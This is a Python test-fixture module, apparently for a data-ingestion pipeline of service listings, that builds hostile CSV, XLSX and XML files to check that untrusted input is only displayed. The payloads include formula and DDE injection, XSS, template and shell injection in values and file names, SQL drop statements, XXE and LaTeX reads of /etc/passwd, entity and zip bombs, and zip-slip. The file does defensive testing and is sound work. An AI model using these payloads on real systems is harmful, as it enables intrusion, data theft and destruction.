"""Values and files made to do harm, the same in every run: what lands with them must do nothing but be shown.

Whatever runs sets `window.__pwned`, or leaves a file whose name holds MARK. All of it is fictional.
"""

from __future__ import annotations

import csv
import io
import os
import zipfile
from pathlib import Path

import openpyxl

MARK = "PWNED"
_SET = "window.__pwned=1"
# What a template engine, a shell or a typesetter would make of the values below, and what their files hold.
SUM, SECRET = "50337", "root:x:0:0"
HEADER = ["Structure", "Sigle", "Type", "Service", "Région", "Cercle", "Statut", "Vu le", "Programme", "Descriptif",
          "Site", "Horaires", "Pièces"]  # fmt: skip
PLAIN = ["", "AF", "Association", "Soutien et suivi psychosociaux", "Gao", "Gao", "Opérationnel", "2024-07-01"]

VALUES = [
    # spreadsheets
    "=1+1", '=HYPERLINK("http://mal.invalid/?"&A1,"cliquer")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
    "-1+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "Association;=1+1", "＝1+1",
    "=DDE(\"cmd\";\"/C calc\";\"x\")", "'=1+1", "\n=1+1",
    # pages
    f"<script>{_SET}</script>", f"</script><script>{_SET}</script>", f'<img src=x onerror="{_SET}">',
    f"<svg onload={_SET}>", f"<svg><script>{_SET}</script></svg>", f'"><img src=x onerror={_SET}>',
    f"' onmouseover='{_SET}' x='", f'" autofocus onfocus="{_SET}', f"javascript:{_SET}", f"JaVaScRiPt:{_SET}//",
    "<iframe srcdoc='<script>top.__pwned=1</script>'></iframe>", f"<a href=\"javascript:{_SET}\">lien</a>",
    f"<!--><script>{_SET}</script>-->", "<!--<script>", f"</style><script>{_SET}</script>", f"</textarea><script>{_SET}</script>",
    f"</title><script>{_SET}</script>", f"`+({_SET})+`", f"${{{_SET}}}", f"';{_SET};//", f'\\";{_SET};//',
    f"&lt;script&gt;{_SET}&lt;/script&gt;", f"<details open ontoggle={_SET}>", f"data:text/html,<script>{_SET}</script>",
    f"]]><script>{_SET}</script>", f"\u2028{_SET}\u2029", "<base href=//mal.invalid/>",
    "<meta http-equiv=refresh content='0;url=http://mal.invalid/'>", f"<math><mi xlink:href=\"javascript:{_SET}\">x",
    # templates and typesetters
    "{{7*7191}}", "{% for x in range(9) %}x{% endfor %}{{7*7191}}", "${7*7191}", "#{7*7191}", "<%= 7*7191 %>",
    "#eval(\"7*7191\")", "#read(\"/etc/passwd\")", "#{ 7 * 7191 }", "\\input{/etc/passwd}", "\\write18{touch " + MARK + "}",
    "$(touch " + MARK + ")", "`touch " + MARK + "`", "; touch " + MARK + " ;", "| touch " + MARK, "%s%s%s%n", "{0.__class__}",
    f"[lien](javascript:{_SET})", f"![x](x\"onerror=\"{_SET})", "# Titre | cellule | **gras**", "[/red][bold]", "[link=x]",
    "```{=html}\n<script>" + _SET + "</script>\n```", "@import \"/etc/passwd\"", "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    # SQL, HXL, signs
    "'; drop table marts.service_gap; --", "' or '1'='1", "\"; drop schema marts cascade; --", "Robert'); delete from x;--",
    "#org+name", "#adm1 +code", "\u202egnp.cod", "\ufeffAssociation", "A\u200bssociation", "null", "NaN", "../../../" + MARK,
    # terminals
    "\x1b]52;c;cHduZWQ=\x07Association", "\x1b[2JAssociation", "Association\x9b2J", "Asso\x08\x08ciation",
    "Association " + "très " * 7000 + "longue",
]  # fmt: skip

# Good files under odd names. A name is at most 255 bytes.
NAMES = [
    "hostile_values.csv", "-rf hostile_values.csv", "hostile_values\nligne.csv", "hostile_values'quote\".csv",
    f"hostile_values$(touch {MARK}).csv", f"hostile_values;touch {MARK};.csv", "hostile_values\u202egpj.csv",
    "hostile_values " + "x" * 220 + ".csv", "hostile_values..csv", "..hostile_values.csv", "hostile_values[/red].csv",
    f"hostile_values<img src=x onerror={_SET}>.csv", "hostile_values%2e%2e%2f.csv", "hostile_values é ü 中文.csv",
    f"hostile_values`touch {MARK}`.csv", "hostile_values{{7*7191}}.csv", "hostile_values|x.csv", "hostile_values\\..\\x.csv",
    "=hostile_values.csv",
]  # fmt: skip
UNCLAIMED = ["inconnu[/].txt", "inconnu <script>.pdf", b"inconnu_\xff\xfe.csv", b"hostile_values_\xff.csv"]


def rows(values: list[str]) -> list[list[str]]:
    """Good rows but for what stands in the name of the structure and in every free text."""
    return [[value, *PLAIN[1:], value, value, value, value, value] for value in values]


def _csv(values: list[str]) -> bytes:
    text = io.StringIO()
    csv.writer(text, lineterminator="\r\n").writerows([HEADER, *rows(values)])
    return text.getvalue().encode()


def _workbook() -> bytes:
    """Texts that begin with « = » as texts, a true formula, a link and a cell of the greatest length."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(HEADER)
    for row in rows(["=texte", "Formule vraie", "Lien vrai", "x" * 32_767]):
        sheet.append(row)
        for cell in sheet[sheet.max_row]:
            cell.data_type = "s"
    sheet["I3"] = "=1+1"
    sheet["I4"].hyperlink = f"javascript:{_SET}"
    data = io.BytesIO()
    book.save(data)
    return data.getvalue()


def _zip(members: dict[str, bytes]) -> bytes:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as packed:
        for name, content in members.items():
            packed.writestr(name, content)
    return data.getvalue()


def _files() -> dict[str, bytes]:
    """Files that no reader may take at their word."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e0 "ha">{entities}]><x>&e9;</x>'.encode()
    outside = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
    return {
        "bomb.xlsx": _zip({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": b" " * 50_000_000}),
        "entities.xlsx": _zip({"[Content_Types].xml": b"<x/>", "xl/workbook.xml": bomb}),
        "outside.xlsx": _zip({"[Content_Types].xml": outside, "xl/workbook.xml": outside}),
        "slip.xlsx": _zip({f"../../../{MARK}": b"x", f"/tmp/{MARK}": b"x"}),
        "page.xlsx": f"<html><script>{_SET}</script></html>".encode(),
        "program.csv": b"\x7fELF\x02\x01\x01" + bytes(200),
        "text.xlsx": _csv(["Association"]),
        "workbook.csv": _workbook(),
        "empty.csv": b"",
        "zeros.csv": bytes(10_000),
        "quote.csv": b'Structure,Sigle\r\n"jamais ferm\xc3\xa9,' + b"x" * 200_000,
        "wide.csv": (",".join(f"c{n}" for n in range(20_000)) + "\n").encode(),
        "script.csv": f"#!/bin/sh\ntouch {MARK}\n".encode(),
    }


FILES = _files()


def land(folder: Path) -> None:
    """Writes all of it into a landing folder."""
    folder.mkdir(parents=True)
    for number, name in enumerate(NAMES):
        (folder / name).parent.mkdir(exist_ok=True)  # « [/red] » is a folder and a file
        (folder / name).write_bytes(_csv(VALUES[number :: len(NAMES)] if number else VALUES))
    (folder / "hostile_values classeur.xlsx").write_bytes(_workbook())
    for name in UNCLAIMED:
        path = os.path.join(os.fsencode(folder), os.fsencode(name))
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as file:
            file.write(_csv(["Association sans source"]))
    for name, content in FILES.items():
        (folder / f"hostile_files_{name}").write_bytes(content)
    (folder / "hostile_values_lien.csv").symlink_to("/etc/passwd")


SOURCE = """\
id: {id}
title:
  fr: Liste hostile {{{{7*7191}}}}
  en: Hostile list
publisher: "<script>window.__pwned=1</script>"
license: fictive
sensitivity: internal
evidence_class: partner
kind: tableur
files: {files}
reader:
  kind: table
shapes:
  service:
    columns:
      organization_name: Structure
      organization_acronym: Sigle
      organization_type_code: Type
      service_type_code: Service
      admin1_name: Région
      admin2_name: Cercle
      admin_vintage: {{ value: 2021 }}
      status_code: Statut
      observed_on: Vu le
      program_name: Programme
      description: Descriptif
      site_name: Site
      hours: Horaires
      required_documents: Pièces
    bounds: {{ min_records: 1, max_records: 10000 }}
"""


def declare(folder: Path) -> Path:
    """Two sources that claim what was landed: good rows, and files that are none; the folder for MRF_SOURCES."""
    for name, files in (
        ("hostile_values", '["*hostile_values*", "red].csv"]'),
        ("hostile_files", '["hostile_files*"]'),
    ):
        (folder / f"{name}_mli").mkdir(parents=True)
        (folder / f"{name}_mli" / "source.yml").write_text(SOURCE.format(id=f"{name}_mli", files=files))
        (folder / f"{name}_mli" / "sample.csv").write_bytes(_csv(["Association fictive"]))
    return folder
